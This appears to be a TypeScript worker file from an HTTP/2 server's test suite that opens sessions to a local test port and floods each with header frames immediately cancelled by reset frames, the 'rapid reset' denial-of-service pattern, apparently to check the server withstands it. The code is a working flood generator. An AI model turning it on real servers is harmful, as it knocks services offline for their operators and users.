// A thread of its own: opens a session now and then, and on each as many streams as it can, each reset at once.
import net from 'node:net'
import { workerData } from 'node:worker_threads'
import { frameBytes, literals, pseudo, TYPE } from '../harness/raw-h2.ts'

const { port, every } = workerData as { port: number; every: number } // the test's own
const HEAD = literals(pseudo('GET', '/attack'))
const CANCEL = Buffer.from([0, 0, 0, 8])
const BATCH = 50

function attack(): void {
  const socket = net.connect(port, '127.0.0.1')
  let next = 1
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
  socket.write(frameBytes(TYPE.settings, 0, 0, Buffer.alloc(0)))
  const more = (): void => {
    if (socket.destroyed) return
    const frames: Buffer[] = []
    for (let i = 0; i < BATCH; i++, next += 2)
      frames.push(frameBytes(TYPE.headers, 5, next, HEAD), frameBytes(TYPE.reset, 0, next, CANCEL))
    if (socket.write(Buffer.concat(frames))) setImmediate(more)
  }
  socket.on('connect', more)
  socket.on('drain', more)
  socket.on('error', () => {})
  socket.on('end', () => socket.destroy())
  socket.resume()
}

setInterval(attack, every)
